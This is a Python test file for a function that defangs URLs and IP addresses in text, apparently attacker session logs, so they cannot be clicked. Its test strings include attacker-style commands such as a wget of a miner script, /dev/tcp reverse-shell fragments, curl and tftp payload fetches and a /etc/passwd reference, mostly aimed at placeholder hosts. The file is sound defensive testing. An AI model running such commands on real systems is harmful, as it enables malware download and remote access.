"""Addresses are written so that nothing makes a link of them, and nothing else is touched."""

import re

import pytest
import real
from hostile import ANY_TEXT, EVERY_CODE_POINT, of, texts_of
from hypothesis import example, given, settings
from linkify_it import LinkifyIt

from sesscore.defang import defang
from sesscore.topdomains import EITHER, SURE

URL_TEXT = of("http://", "HTTPS://", "ftp://", "://", ":", "/", ".", "evil.com", "evil", "com", "sh", "www.", "1.2.3.4",
              "256", "::", "2001:db8", "[", "]", "[.]", "[:]", "-", "_", "@", " ", "(", "\\", "。", "=")  # fmt: skip
READER = LinkifyIt()


def given_back(text):
    """What was defanged, if it held no brackets of its own."""
    return re.sub(r"\[([.。．｡:]|://)\]", r"\1", text).replace("hxxp", "http").replace("HXXP", "HTTP")


def links(text):
    """What a program that looks for addresses takes for links, by their schemes."""
    return [link.schema for link in READER.match(text) or () if link.schema.endswith(":")]


@pytest.mark.parametrize(
    ("text", "defanged"),
    [
        # scheme://
        ("http://evil.com/x.sh", "hxxp[://]evil[.]com/x.sh"),
        ("HTTPS://EVIL.COM", "HXXPS[://]EVIL[.]COM"),
        ("ftp://anonymous:a.b@192.0.2.1/.sh", "ftp[://]anonymous:a[.]b@192[.]0[.]2[.]1/.sh"),
        ("tftp://192.0.2.1:69/shr", "tftp[://]192[.]0[.]2[.]1:69/shr"),
        ("stratum+tcp://pool.evil.example:4444", "stratum+tcp[://]pool[.]evil[.]example:4444"),
        ("http://localhost/x", "hxxp[://]localhost/x"),
        ("http://3221225985/x", "hxxp[://]3221225985/x"),
        ("http://[2001:db8::1]:80/", "hxxp[://][2001[:]db8[:][:]1]:80/"),
        ("http://evil.unknown?u=http://a.b/c.d", "hxxp[://]evil[.]unknown?u=hxxp[://]a[.]b/c.d"),
        ("see http://evil.com.", "see hxxp[://]evil[.]com."),
        ("hxxp://evil[.]com", "hxxp[://]evil[.]com"),
        ("http://http://evil.x", "hxxp[://]hxxp[://]evil[.]x"),
        ("1http://evil.x", "1hxxp[://]evil[.]x"),
        ("http://evil。com", "hxxp[://]evil[。]com"),
        ("url=http://a.b;x", "url=hxxp[://]a[.]b;x"),
        ("http://", "http://"),
        ("file:///etc/passwd", "file:///etc/passwd"),
        # addresses
        ("192.0.2.1", "192[.]0[.]2[.]1"),
        ("ping 192.0.2.1 -c1", "ping 192[.]0[.]2[.]1 -c1"),
        ("wget 192.0.2.1/xmr.sh -O xmr.sh", "wget 192[.]0[.]2[.]1/xmr.sh -O xmr.sh"),
        ("exec 6<>/dev/tcp/192.0.2.1/60142", "exec 6<>/dev/tcp/192[.]0[.]2[.]1/60142"),
        ("192.0.2.1-192.0.2.9", "192[.]0[.]2[.]1-192[.]0[.]2[.]9"),
        ("192.0.2.1-9,192.0.2.0/24", "192[.]0[.]2[.]1-9,192[.]0[.]2[.]0/24"),
        ("192.0.2.1.", "192[.]0[.]2[.]1."),
        ("4.3.2.1.in-addr.arpa", "4[.]3[.]2[.]1[.]in-addr[.]arpa"),
        ("2001:db8::1", "2001[:]db8[:][:]1"),
        ("[fe80::1%eth0]:22", "[fe80[:][:]1%eth0]:22"),
        ("::ffff:192.0.2.1", "[:][:]ffff[:]192[.]0[.]2[.]1"),
        ("x:0:192.0.2.1", "x:0:192[.]0[.]2[.]1"),
        # names
        ("evil.com", "evil[.]com"),
        ("tftp evil.com -c get a.sh", "tftp evil[.]com -c get a.sh"),
        ("root@evil.com:/root", "root@evil[.]com:/root"),
        ("git@evil.sh:a/b.git", "git@evil[.]sh:a/b.git"),
        ("curl evil.sh/x", "curl evil[.]sh/x"),
        ("curl -L //evil.zip", "curl -L //evil[.]zip"),
        ("www.evil.unknown", "www[.]evil[.]unknown"),
        ("cat </dev/tcp/evil.com/80", "cat </dev/tcp/evil[.]com/80"),
        (r"http:\/\/evil.com\/x", r"http:\/\/evil[.]com\/x"),
        (r"\\evil.com\share", r"\\evil[.]com\share"),
        ("xn--e1afmkfd.xn--p1ai пример.рф ｅｖｉｌ．ｃｏｍ", "xn--e1afmkfd[.]xn--p1ai пример[.]рф ｅｖｉｌ[．]ｃｏｍ"),
        ("_dmarc.evil.com.", "_dmarc[.]evil[.]com."),
        ("--url=evil.com,a.net", "--url=evil[.]com,a[.]net"),
    ],
)
def test_an_address(text, defanged):
    assert defang(text) == defanged
    assert defang(defanged) == defanged


@pytest.mark.parametrize(
    "text",
    ["a.tar.gz", "x.sh", "bins.sh;sh bins.sh", "./.i", "sh -c ./a.py", "/tmp/evil.com", "/var/www/evil.com/index.php",
     "C:\\evil.com", "config.h.in", "libc.so.6", "id_rsa.pub", "install.run", "www.zip", "bot.x86_64", "bot.mipsel",
     "OpenSSH_8.9p1", "SSH-2.0-Go", "SSH-2.0-OpenSSH_7.6p1 Ubuntu-4ubuntu0.3", "SSH-2.0-libssh2_1.4.3", "v1.2.3.4",
     "1.2.3", "1.2.3.4.5", "1.2.3.256", "1.2.3.4-beta", "linux-5.4.0-42-generic", "3.1415926", "12.34.56", "123456.",
     "12:30:45", "2026-11-03T12:30:45.123456Z", "aa:bb:cc:dd:ee:ff", "16:27:ac:a5:76:28:2d:36:63:1b:56:4d:eb:df:a6:48",
     "std::vector", "A::B", "::", "root:x:0:0:root:/root:/bin/bash", "/etc/rc.local", "en_US.UTF-8", "os.system('x')",
     "socket.to('x')", "e.g. this.", "...", "..", ".", "a..com", "-rf", "date +%d.%m.%Y", "awk '{print $1.$2}'",
     "user.name", "HTTP/1.1", "Accept: */*", "chmod 777 /tmp/*.sh", "tftp -l.i -r.i -g", "echo -n 1.5 > a.b"],
)  # fmt: skip
def test_what_is_no_address(text):
    assert defang(text) == text


def test_every_code_point():
    for code in EVERY_CODE_POINT:
        assert defang(chr(code)) == chr(code)
    for start in EVERY_CODE_POINT[::4096]:
        text = "a".join(map(chr, range(start, start + 4096)))
        assert given_back(defang(text)) == text


@settings(deadline=None, max_examples=300)
@given(URL_TEXT | ANY_TEXT)
@example("hxxp[://]evil[.]com")
@example("::1.2.3.4://")
def test_once_is_enough(text):
    assert defang(defang(text)) == defang(text)


@settings(deadline=None, max_examples=300)
@given(URL_TEXT | ANY_TEXT)
def test_nothing_but_brackets_and_schemes(text):
    plain = text.replace("[", "").replace("]", "")
    assert given_back(defang(plain)) == given_back(plain)


@settings(deadline=None, max_examples=300)
@given(URL_TEXT | ANY_TEXT)
@example("http://\\\\@http://")
@example("http://\\@http://")
@example(":@evil.com(")
def test_no_link_is_left(text):
    assert links(defang(text)) == []


def test_the_reader_would_see_links():
    assert links("see http://evil.com and https://192.0.2.1/x") == ["http:", "https:"]


def test_ends_of_names_are_of_one_kind():
    assert not SURE & EITHER


@pytest.mark.skipif(not real.truths(), reason="no real logs beside the project")
def test_what_attackers_typed():
    """Each URL and each IPv4 address of a network is written so; what has no address is as it was."""
    texts = {text for path in real.files() if path.stat().st_size < 4_000_000 for text in texts_of(path)}
    changed = {text: defang(text) for text in texts if defang(text) != text}
    assert len(changed) > 50
    for text, defanged in changed.items():
        assert re.search(r"://|[0-9]\.[0-9]|[A-Za-z0-9]\.[A-Za-z]", text), text
        assert given_back(defanged) == text
        assert defang(defanged) == defanged
    for text in texts:
        assert links(defang(text)) == [], text
        assert not re.search(
            r"https?://[0-9A-Za-z]|(?<![\w.-])(?:[0-9]{2,3}\.){3}[0-9]{2,3}(?![\w.-])", defang(text)
        ), text
